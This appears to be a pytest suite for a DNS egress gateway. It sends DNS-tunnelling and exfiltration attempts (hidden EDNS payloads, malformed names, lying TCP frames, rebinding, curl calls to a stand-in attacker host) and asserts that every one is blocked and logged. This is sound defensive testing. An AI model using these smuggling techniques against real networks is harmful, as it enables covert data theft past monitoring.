"""The DNS cases of the threat model: odd messages, odd ways to send them, odd answers. Nothing gets out, each is recorded once."""
from __future__ import annotations

import json
import re
from dataclasses import dataclass

import pytest

import dns_wire as wire
from world import names

ALLOW = ["https://echo.example/", "https://svc.example/"]
CONTROL = wire.query("echo.example", ident=0xC0DE)
DIG = "dig +tries=1 +time=5 "
HOWS = ["sendto", "send", "sendmsg", "sendmmsg", "gso", "tcp"]


@dataclass(frozen=True)
class Step:
    """What a job sends on one socket; `expect` answers are waited for (None: one for each message)."""
    messages: list[bytes]
    how: str = "sendto"
    to: tuple[str, int] | None = None
    expect: int | None = None
    wait: float = 3
    more: tuple[tuple[str, object], ...] = ()

    def as_json(self) -> dict:
        out = {"how": self.how, "messages": [m.hex() for m in self.messages], "wait": self.wait, **dict(self.more)}
        if self.to:
            out["to"] = list(self.to)
        if self.expect is not None:
            out["expect"] = self.expect
        return out


@dataclass(frozen=True)
class Outcome:
    answers: list[wire.Answer]
    milliseconds: float
    error: str | None

    def rcodes(self) -> dict[int, int]:
        return {a.ident: a.rcode for a in self.answers}


def exchange(world, gateway, steps: list[Step], allow: list[str] = ALLOW, **more):
    """Runs the steps between two controls in one job; gives the job and the steps' outcomes."""
    framed = [Step([CONTROL]), *steps, Step([CONTROL])]
    done = gateway.run(["/usr/bin/python3", f"{world.scripts}/dns_exchange.py"], allow,
                       input=json.dumps([s.as_json() for s in framed]).encode(), **more)
    found = [Outcome([wire.read_answer(bytes.fromhex(a)) for a in line["answers"]], line["milliseconds"], line["error"])
             for line in map(json.loads, done.out.splitlines())]
    assert len(found) == len(framed), done
    for control in (found[0], found[-1]):
        assert control.rcodes() == {0xC0DE: wire.NOERROR} and control.answers[0].answers == 1, done
    return done, found[1:-1]


def refusals(done) -> list[dict]:
    """Every deny record of a query or datagram."""
    return [r for r in done.denied() if r["type"] in ("dns", "connection")]


def settled_queries(done, name: str) -> list[dict]:
    return [q for q in done.queries() if q.get("qname", "").lower() == name]


# ---- what hides in a well-formed query for an allowed name

def covert_queries(nonce: str) -> dict[str, list[dict]]:
    """Ways to hide bytes beside the name; each as the arguments of wire.message but for the question."""
    text = nonce.encode()
    opt = wire.edns
    return {
        "answered": [
            {}, {"ident": 0xBEEF}, {"additionals": [opt()]}, {"additionals": [opt([(65001, text)])]},
            {"additionals": [opt([(10, text[:8])])]}, {"additionals": [opt([(10, text[:20] + b"....")])]},
            {"additionals": [opt([(8, b"\0\1\x18\0" + text[:3])])]}, {"additionals": [opt([(12, text * 20)])]},
            {"additionals": [opt([(3, b""), (11, text[:2]), (65002, text)], size=4096)]},
            {"additionals": [opt(flags=0x8000)]}, {"flags": 0x0100 | 0x0030}],
        "either": [
            {"flags": 0x0100 | 0x0040}, {"flags": 0x0100 | 0x0600}, {"flags": 0x0100 | 0x000F}, {"flags": 0},
            {"additionals": [opt(flags=0x7FFF)]}, {"additionals": [opt(size=int.from_bytes(text[:2], "big"))]}],
        "refused": [
            {"trailing": text}, {"answers": [wire.record(f"{nonce}.test", 1, b"\1\2\3\4")]},
            {"authorities": [wire.record(f"{nonce}.test", 2, wire.encode_name("ns.test"))]},
            {"additionals": [wire.record(f"{nonce}.test", 250, text, 255)]}, {"additionals": [opt([(65001, text)]), opt()]},
            {"additionals": [wire.record(nonce, 41, text, 1232)]}, {"additionals": [opt(version=1)]},
            {"flags": 0x0100 | 2 << 11}, {"flags": 0x0100 | 4 << 11}, {"flags": 0x0100 | 5 << 11}, {"flags": 0x0100 | 15 << 11},
            {"counts": (2, 0, 0, 0)}, {"counts": (1, 0, 0, 1)}, {"counts": (65535, 65535, 65535, 65535)}],
    }


def mixed_case(name: str, nonce: str) -> str:
    bits = bin(int(nonce[1:], 16))[2:].zfill(80)
    return "".join(c.upper() if bit == "1" else c for c, bit in zip(name, bits))


@pytest.mark.parametrize("how", ["sendto", "tcp"])
def test_upstream_query_is_rebuilt_whatever_was_hidden_in_it(world, gateway, nonce, how):
    """Every query that leaves is the plain one, byte for byte; what cannot be rebuilt honestly is refused and does not leave."""
    shapes = covert_queries(nonce)
    kinds = [(kind, shape) for kind, all_of_it in shapes.items() for shape in all_of_it]
    hosts = [f"covert{n:02}.example" for n in range(len(kinds))]
    steps = [Step([wire.message([wire.question(mixed_case(host, nonce))], **shape)], how, expect=1, wait=2)
             for host, (_, shape) in zip(hosts, kinds)]
    done, outcomes = exchange(world, gateway, steps, ALLOW + [f"dns:{host}" for host in hosts])
    plain = bytes.fromhex(settled_queries(done, "echo.example")[0]["raw"])
    identities = set()
    for host, (kind, shape), outcome in zip(hosts, kinds, outcomes):
        seen = [bytes.fromhex(q["raw"]) for q in settled_queries(done, host)]
        identities |= {raw[:2] for raw in seen}
        expected = plain.replace(wire.encode_name("echo.example"), wire.encode_name(host))
        assert all(raw[2:] == expected[2:] for raw in seen), (shape, seen, expected)
        rcodes = set(outcome.rcodes().values())
        assert (kind, rcodes, len(seen)) in (("answered", {0}, 1), ("either", {0}, 1)) or kind != "answered" and not seen \
            and rcodes <= {wire.FORMERR, wire.NOTIMP, wire.REFUSED, wire.NXDOMAIN, 16 & 15}, (kind, shape, rcodes, seen, done)
    assert len(done.of_type("dns")) == len(kinds) + 2, "one record for each query, the controls included"
    assert len(identities) > len(shapes["answered"]) // 2, "ids are our own"
    assert world.traces(nonce) == [], done


def test_other_classes_are_refused(world, gateway, nonce):
    steps = [Step([wire.message([wire.question(name, kind, qclass)])], how) for how in ("sendto", "tcp")
             for qclass in (0, 2, 3, 4, 254, 255, 0x6E6E) for name, kind in ((f"{nonce}.test", "TXT"), ("echo.example", "A"))]
    done, outcomes = exchange(world, gateway, steps)
    assert all(a.rcode in (wire.REFUSED, wire.NXDOMAIN, wire.NOTIMP, wire.FORMERR) for o in outcomes for a in o.answers), done
    assert world.traces(nonce) == [] and len(refusals(done)) == len(steps), done


def test_questions_beside_the_first_are_refused(world, gateway, nonce):
    steps = [Step([wire.message(questions)], how) for how in ("sendto", "tcp") for questions in (
        [wire.question("echo.example"), wire.question(f"{nonce}.test")], [wire.question("echo.example")] * 2,
        [wire.question(f"{nonce}.test"), wire.question("echo.example")])]
    done, outcomes = exchange(world, gateway, steps)
    assert all([a.rcode for a in o.answers] == [wire.FORMERR] for o in outcomes), done
    assert world.traces(nonce) == [] and len(refusals(done)) == len(steps), done


QTYPES = ["NULL", "PRIVATE", "KEY", "ANY", "AXFR", "IXFR", "MAILB", "OPT", "TSIG", "TKEY", "ZERO", "LAST"]
NUMBERS = {"PRIVATE": 65399, "KEY": 25, "ANY": 255, "AXFR": 252, "IXFR": 251, "MAILB": 253, "OPT": 41, "TSIG": 250, "TKEY": 249,
           "ZERO": 0, "LAST": 65535}


def test_odd_types_of_an_allowed_name_are_not_carried(world, gateway, nonce):
    """Types that tunnels like or that ask for more than records; the type of a denied name makes no difference either."""
    numbers = [wire.TYPES.get(t, NUMBERS.get(t)) for t in QTYPES]
    steps = [Step([wire.query(name, number)]) for number in numbers for name in ("svc.example", f"{nonce}.test")]
    done, outcomes = exchange(world, gateway, steps)
    assert all(a.rcode in (wire.REFUSED, wire.NXDOMAIN, wire.NOTIMP, wire.FORMERR) for o in outcomes for a in o.answers), done
    assert {q["qname"] for q in done.queries()} == {"echo.example"}, done
    assert world.traces(nonce) == [] and len(refusals(done)) == len(steps), done


# ---- what is no query at all

def test_responses_from_a_client_are_dropped(world, gateway, nonce):
    """QR set: nobody answers, nothing leaves, one record each; the same over TCP."""
    reply = wire.record("echo.example", 16, bytes([len(nonce)]) + nonce.encode())
    messages = [wire.query(f"{nonce}.test", flags=0x8180), wire.query("echo.example", flags=0x8180, answers=[reply]),
                wire.query(f"{nonce}.test", flags=0x8185)]
    done, outcomes = exchange(world, gateway, [Step([*messages, CONTROL], "send", expect=1), Step([*messages, CONTROL], "tcp", expect=1)])
    assert all(o.rcodes() == {0xC0DE: 0} for o in outcomes if o.answers) and outcomes[0].answers, done
    assert world.traces(nonce) == [], done
    dropped = [r for r in refusals(done) if r["decision"]["reason"] == "dns_response_from_client"]
    assert len(dropped) == len(refusals(done)) and 3 <= len(dropped) <= 6, done


def odd_names(nonce: str) -> dict[str, bytes]:
    text, labels = nonce.encode(), wire.encode_labels
    label = bytes([len(text)]) + text
    return {
        "NUL in a label": labels([text + b"\0", b"test"]), "NUL behind an allowed name": labels([b"echo", b"example\0" + text]),
        "dot in a label": labels([text + b".echo", b"example"]), "an allowed name as one label": labels([b"echo.example"]),
        "dot at the end of a label": labels([b"echo", b"example." + text[:4], text]), "newline": labels([text + b"\n", b"echo", b"example"]),
        "carriage return": labels([b"echo", b"example\r\n" + text]), "escape": labels([b"\x1b[2J" + text, b"test"]),
        "space": labels([text + b" ", b"echo", b"example"]), "octets above ASCII": labels([text + bytes([0x85, 0x9B, 0xFF]), b"test"]),
        "backslash": labels([b"\\000" + text, b"echo", b"example"]), "at sign": labels([text + b"@echo", b"example"]),
        "pointer at itself": b"\xc0\x0c", "label and pointer at itself": label + b"\xc0\x0c",
        "two pointers at each other": b"\xc0\x0e\xc0\x0c", "pointer into the header": label + b"\xc0\x00",
        "pointer forward": label + b"\xc0\x40", "pointer beyond the end": label + b"\xff\xff", "pointer cut off": label + b"\xc0",
        "label of 64": bytes([64]) + text * 3 + b"\0", "extended label": b"\x41" + label + b"\0", "bit label": b"\x80" + label + b"\0",
        "label beyond the end": label + b"\x3f", "over 255 octets": label + bytes([63]) + b"a" * 63 + (bytes([63]) + b"b" * 63) * 3 + b"\0",
        "no end": label + b"\x04echo", "128 labels": label + b"\x01a" * 127 + b"\0", "empty": b"",
    }


@pytest.mark.parametrize("how", ["send", "tcp"])
def test_odd_names_do_not_leave(world, gateway, nonce, how):
    """RFC 9267's collection and more; each with one record, in which a control character is never itself."""
    odd = odd_names(nonce)
    tail = {"pointer cut off": b"", "label beyond the end": b"", "no end": b"", "empty": b""}
    steps = [Step([wire.message([name + tail.get(what, b"\0\1\0\1")]), CONTROL], how, expect=2, wait=0.5)
             for what, name in odd.items()]
    done, outcomes = exchange(world, gateway, steps)
    for what, outcome in zip(odd, outcomes):
        rcodes = outcome.rcodes()
        assert rcodes.get(0xC0DE) == 0, (what, outcome)
        assert rcodes.get(0x1234, wire.FORMERR) in (wire.FORMERR, wire.REFUSED, wire.NXDOMAIN), (what, outcome)
    assert {q.get("qname") for q in done.queries()} == {"echo.example"}, done
    assert world.traces(nonce) == [] and len(refusals(done)) == len(odd), [r["dns"]["qname"] for r in refusals(done)]
    raw = (done.folder / "gateway" / "audit.jsonl").read_bytes()
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f-\xff]", raw), "control characters and bare octets are escaped"


# ---- TCP

def test_pipelined_messages_are_each_judged(world, gateway, nonce):
    """A hundred in one segment, every other one denied: each has its own verdict, answer and record."""
    messages = [wire.query(f"p{n}.{nonce}.test" if n % 2 else "svc.example", ident=n) for n in range(100)]
    done, [whole, dribbled] = exchange(world, gateway, [Step(messages, "tcp"),
                                                        Step(messages[:8], "tcp", more=(("pieces", 1),))])
    assert whole.rcodes().keys() == set(range(100)) and dribbled.rcodes().keys() == set(range(8)), done
    for outcome in (whole, dribbled):
        assert all((rcode == wire.NOERROR) == (ident % 2 == 0) for ident, rcode in outcome.rcodes().items()), done
    assert world.traces(nonce) == [] and len(done.about(nonce, "dns")) == 50 + 4, done
    assert len(done.of_type("dns")) == 100 + 8 + 2, done


def test_segments_of_any_size(world, gateway, nonce):
    messages = [wire.query("echo.example", ident=1), wire.query(f"{nonce}.test", ident=2), wire.query("svc.example", ident=3)]
    sizes = [1, 2, 3, 7, 64]
    done, outcomes = exchange(world, gateway, [Step(messages, "tcp", more=(("pieces", size),)) for size in sizes])
    for outcome in outcomes:
        assert outcome.rcodes() in ({1: 0, 2: wire.REFUSED, 3: 0}, {1: 0, 2: wire.NXDOMAIN, 3: 0}), done
    assert world.traces(nonce) == [] and len(done.about(nonce, "dns")) == len(sizes), done


def test_lying_length_prefixes(world, gateway, nonce):
    """Too short, too long, zero: what is inside the stated length is judged as a message, the rest as the next one."""
    bad, good = wire.query(f"{nonce}.test"), wire.query("svc.example", ident=7)

    def framed(length: int, content: bytes) -> bytes:
        return length.to_bytes(2, "big") + content

    streams = [framed(len(bad) - 5, bad), framed(len(bad) + 9, bad), framed(65535, bad), framed(0, bad), framed(1, bad), framed(12, bad),
               framed(0, b"") * 3 + framed(len(good), good), framed(len(good) + len(bad), good + bad),
               framed(len(good), good) + framed(len(bad) + 1, bad)]
    steps = [Step([s], "tcp", expect=1, wait=1, more=(("raw", True), ("close", True))) for s in streams]
    done, outcomes = exchange(world, gateway, steps)
    assert not any(a.rcode == 0 and a.answers for o in outcomes[:6] for a in o.answers), done
    assert {q["qname"] for q in done.queries()} <= {"echo.example", "svc.example"}, done
    assert world.traces(nonce) == [], done
    names_allowed = {r["dns"]["qname"] for r in done.of_type("dns") if r["decision"]["action"] == "allow"}
    assert names_allowed <= {"echo.example", "svc.example"}, done


# ---- ways to send a datagram

@pytest.mark.parametrize("how", HOWS)
def test_every_datagram_of_a_flow_is_judged(world, gateway, nonce, how):
    """The first is allowed, the second of the same socket is not: whatever the system call, and whoever is addressed."""
    denied = f"{nonce}.test"  # as long a message as the others, so that one sendmsg can be cut into them
    allowed = f"{'a' * (len(denied) - len('.example'))}.example"
    messages = [wire.query(allowed, ident=1), wire.query(denied, ident=2), wire.query(allowed, "AAAA", ident=3)]
    targets = [None, ("8.8.8.8", 53), (names.ATTACKER, 53)]
    done, outcomes = exchange(world, gateway, [Step(messages, how, to) for to in targets], ALLOW + [f"dns:{allowed}"])
    for outcome in outcomes:
        assert outcome.error is None and outcome.rcodes() in ({1: 0, 2: wire.REFUSED, 3: 0}, {1: 0, 2: wire.NXDOMAIN, 3: 0}), done
    assert world.traces(nonce) == [], done
    records = done.about(nonce, "dns")
    assert len(records) == len(targets) and all(r["decision"]["action"] == "deny" for r in records), done
    assert len(done.of_type("dns")) == 3 * len(targets) + 2, done


def test_two_sockets_of_one_port_do_not_mix(world, gateway, nonce):
    """The same source port again and again: conntrack remembers the flow, the verdict is the datagram's."""
    steps = [Step([wire.query(name, ident=n)], "send", more=(("bind", 40404),))
             for n, name in enumerate(["echo.example", f"{nonce}.test"] * 5)]
    done, outcomes = exchange(world, gateway, steps)
    assert [(o.rcodes()[n] == 0) for n, o in enumerate(outcomes)] == [True, False] * 5, done
    assert world.traces(nonce) == [] and len(done.about(nonce, "dns")) == 5, done


OTHER_PORTS = {8053: "dns_on_other_port", 443: "dns_on_other_port", 4500: "dns_on_other_port", 123: "dns_on_other_port",
               5353: "multicast_dns", 5355: "multicast_dns"}


@pytest.mark.parametrize("port", OTHER_PORTS)
def test_dns_on_another_port(world, gateway, nonce, port):
    """Refused at once, named for what it is, even if the name is allowed."""
    steps = [Step([wire.query(name)], how, ("8.8.8.8", port)) for how in ("send", "tcp") for name in (f"{nonce}.test", "echo.example")]
    since = world.evidence.mark()
    done, outcomes = exchange(world, gateway, steps)
    assert world.traces(nonce) == [], done
    assert [p for p in world.evidence.packets(since) if p.destination == "8.8.8.8"] == [], done
    assert all(not a.answers for o in outcomes for a in o.answers), done
    assert all(o.milliseconds < 1000 for o in outcomes[:2]), f"an immediate refusal: {outcomes}"
    datagrams = [r for r in refusals(done) if "tcp" not in (r.get("connection", {}).get("protocol"), r.get("dns", {}).get("transport"))]
    assert datagrams and {r["decision"]["reason"] for r in datagrams} == {OTHER_PORTS[port]}, done
    assert len(datagrams) == 2, "one record each"


def test_large_queries_are_judged_whole_or_dropped(world, gateway, nonce):
    """Padded to more than an Ethernet frame, and to more than any copy of a packet is long; the name stays what it is."""
    steps = []
    for size in (400, 1400, 4000, 20000, 60000):
        padding = wire.edns([(12, (nonce.encode() * 3000)[:size])])
        steps += [Step([wire.query(f"{nonce}.test", additionals=[padding])], "send", expect=1, wait=0.5),
                  Step([wire.query("svc.example", additionals=[padding])], "send", expect=1, wait=0.5)]
    done, outcomes = exchange(world, gateway, steps)
    assert outcomes[0].answers[0].rcode == wire.REFUSED and outcomes[1].answers[0].rcode == 0, done
    assert not any(a.rcode == 0 for o in outcomes[::2] for a in o.answers), done
    assert world.traces(nonce) == [], done
    assert len([r for r in refusals(done)]) >= len(steps) // 2 and len(done.of_type("dns")) <= len(steps) + 2, done


@pytest.mark.parametrize("address", ["2606:4700:4700::1111", "::ffff:8.8.8.8", "fd00::53", "ff02::fb", "2001:db8::1"])
def test_fragments_and_ipv6_go_nowhere_else(world, gateway, nonce, address):
    """Over IPv6 a program may have its datagrams cut without any privilege (IPV6_MTU)."""
    since = world.evidence.mark()
    padding = wire.edns([(12, nonce.encode() * 150)])
    steps = [Step([wire.query(f"{nonce}.test", additionals=[padding])], "sendto", (address, 53), 1, 0.5, (("mtu", 1280),)),
             Step([wire.query(f"{nonce}.test")], "sendto", (address, 53), 1, 0.5), Step([wire.query(f"{nonce}.test")], "tcp", (address, 53), 1, 0.5)]
    done, outcomes = exchange(world, gateway, steps)
    assert world.traces(nonce) == [], done
    assert not any(a.rcode == 0 for o in outcomes for a in o.answers), done
    foreign = [p for p in world.evidence.packets(since) if 53 in (p.destination_port, p.source_port)
               and not {p.source, p.destination} & {names.DNS, names.DNS6}]
    assert foreign == [], "nothing leaves but the gateway's own queries"


# ---- names before policy

@pytest.mark.parametrize("command", [
    "curl -sS -m 10 https://{0}.test/", "curl -sS -m 10 http://{0}.test/",
    "curl -skS -m 10 --connect-to ::echo.example: https://{0}.test/", "curl -sS -m 10 --connect-to ::echo.example: http://{0}.test/",
    "curl -skS -m 10 -H 'Host: {0}.test' https://echo.example/", "curl -sS -m 10 -H 'Host: {0}.test' http://svc.example/",
    "curl -sS -m 10 https://{0}.echo.example/", "curl -sS -m 10 'https://echo.example@{0}.test/'",
    "curl -sS -m 10 --proxy http://echo.example:80 https://{0}.test/", "curl -sS -m 10 --doh-url https://echo.example/dns-query https://{0}.test/"])
def test_denied_name_is_resolved_by_nobody(world, gateway, nonce, command):
    """A label in a URL, SNI or Host of a denied place reaches no authoritative server."""
    control = "curl -fsS -o /dev/null -w '%{http_code}\\n' https://echo.example/"
    done = gateway.run(f"{control}; {command.format(nonce)} >body 2>&1; {control}", [*ALLOW, "http://svc.example/"])
    assert done.out.split() == ["200", "200"], done
    assert world.traces(nonce) == [], done
    assert all(r["decision"]["action"] == "deny" for r in done.about(nonce)), done
    assert done.about(nonce) or "doh-url" in command, done


# ---- what comes back

DENY_BLOCKED = {"rules": [{"name": "blocked", "expr": f'in_zone(dst.domain, "{names.BLOCKED}")', "action": "deny"}]}


@pytest.mark.parametrize("answers", ["virtual", "real"])
@pytest.mark.parametrize("shape", names.CHAINS)
def test_chain_to_a_denied_name_is_cut(world, gateway, shape, answers):
    """Each hop is judged: CNAME, service, mail and alias targets that a rule denies are not given, nor asked for."""
    name, qtype = names.chain_name(shape, names.BLOCKED), names.CHAINS[shape]
    done = gateway.run(f"{DIG}+short echo.example; {DIG}{name} {qtype}; {DIG}{name} A; {DIG}{names.BLOCKED}; {DIG}+short svc.example",
                       [*ALLOW, f"dns:{name}"], policy={**DENY_BLOCKED, "dns": {"answers": answers}})
    asked, address, direct = done.out.split("<<>> DiG")[1:4]
    assert names.BLOCKED not in re.sub(r"; EDE.*", "", asked), done
    assert "status: REFUSED" in asked or "ANSWER: 0" in asked, done
    assert "status: REFUSED" in direct and not settled_queries(done, names.BLOCKED), done
    if shape in ("cname", "long"):
        assert "denied_by_rule" in [r["decision"]["reason"] for r in done.about(name, "dns")] and "status: REFUSED" in address, done
    assert len(done.of_type("dns")) == 5, "one record for each query"


@pytest.mark.parametrize("answers", ["virtual", "real"])
@pytest.mark.parametrize("shape", names.CHAINS)
def test_chain_to_a_private_address_leads_nowhere(world, gateway, shape, answers):
    name, qtype = names.chain_name(shape, names.PRIVATE_TARGET), names.CHAINS[shape]
    since = world.evidence.mark()
    done = gateway.run(f"{DIG}{name} {qtype}; {DIG}{name} A; {DIG}{names.PRIVATE_TARGET}; curl -sS -m 5 http://{name}/; "
                       f"{DIG}+short echo.example", [*ALLOW, f"http://{name}/", f"dns:{names.PRIVATE_TARGET}"],
                       policy={"dns": {"answers": answers}})
    world.settle()
    assert "10.1.2.3" not in done.out, done
    assert [p for p in world.evidence.packets(since) if p.destination == "10.1.2.3"] == [], done
    assert done.out.count("status: REFUSED") >= 1 and "private_address" in str(done.denied()), done


@pytest.mark.parametrize("answers", ["virtual", "real"])
def test_loop_of_aliases_ends(gateway, answers):
    done = gateway.run(f"{DIG}loop-a.example.com; {DIG}+short echo.example", [*ALLOW, "dns:loop-a.example.com"],
                       policy={"dns": {"answers": answers}})
    assert re.search(r"status: (SERVFAIL|REFUSED|NOERROR)", done.out) and "ANSWER: 0" in done.out, done
    assert done.seconds < 10 and len(done.of_type("dns")) == 2, done


@pytest.mark.parametrize("answers", ["virtual", "real"])
def test_name_that_turns_private_is_refused_from_then_on(world, gateway, answers):
    """DNS rebinding, with answers that nobody may cache: the verdict on the address is made anew for each connection."""
    name = names.rebinding(answers)
    get = f"curl -sS -m 5 -o /dev/null -w 'status %{{http_code}}\\n' http://{name}/"
    since = world.evidence.mark()
    done = gateway.run(f"{get}; {DIG}+short turn.{name}; {get}; {get}; {DIG}{name}", [f"http://{name}/", f"dns:turn.{name}"],
                       policy={"dns": {"answers": answers, "min_ttl": 0}})
    world.settle()
    assert done.out.startswith("status 200"), done
    assert done.out.count("status 200") == 1 and "private_address" in str(done.denied()), done
    assert [p for p in world.evidence.packets(since) if p.destination == "10.1.2.3"] == [], done


def test_an_alias_that_a_rule_denies_is_not_dialled_either(world, gateway, nonce):
    """The same word for a name that TLS or HTTP bring, without a query of the job."""
    name = names.chain_name("cname", names.BLOCKED)
    done = gateway.run(f"curl -sS -m 10 --resolve {name}:80:{names.ATTACKER} http://{name}/{nonce}; {DIG}+short svc.example",
                       [*ALLOW, f"http://{name}/"], policy=DENY_BLOCKED)
    assert world.traces(nonce) == [] and "denied_by_rule" in done.out, done
    records = done.of_type("http")
    assert [r["decision"]["reason"] for r in records] == ["denied_by_rule"] and "alias of" in json.dumps(records), done


@pytest.mark.parametrize("mode", ["enforce", "audit"])
def test_hosts_that_do_not_exist_are_asked_for_once(world, gateway, nonce, mode):
    """Whatever the zone says of how long its "no such name" is good for: the order of requests says nothing outside."""
    zone = f"{nonce[:6]}.gone.example"
    allow = [*ALLOW, f"http://*.{zone}/"] if mode == "enforce" else ALLOW
    fetch = "; ".join(f"curl -s -m 10 --resolve {side}.{zone}:80:{names.ATTACKER} http://{side}.{zone}/" for side in "abbabaabab" * 2)
    done = gateway.run(f"{fetch}; true", allow, policy={"mode": mode})
    asked = [(q["qname"], q["qtype"]) for q in done.queries() if q["qname"].endswith(zone)]
    assert 0 < len(asked) <= 4 and len(set(asked)) == len(asked), asked
    assert len(done.of_type("http")) == 20, done


@pytest.mark.parametrize("counts", ["0001000100000000", "0001000000010000", "0002000000000000"])
def test_queries_with_odd_counts_on_an_opened_port_are_queries(world, gateway, nonce, counts):
    label = nonce[:20]
    message = f"1234 0100 {counts} {len(label):02x}{label.encode().hex()}0474657374 00 0001 0001".replace(" ", "")
    send = ("import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)\n"
            f"s.sendto(bytes.fromhex('{message}'),('{names.RAW}',5398))\n"
            "try: print(s.recv(512).hex())\nexcept OSError as e: print(e)")
    done = gateway.run(["/usr/bin/python3", "-c", send], [*ALLOW, f"udp://{names.RAW}:5398"])
    assert world.traces(label) == [] and len(done.denied()) == 1, done
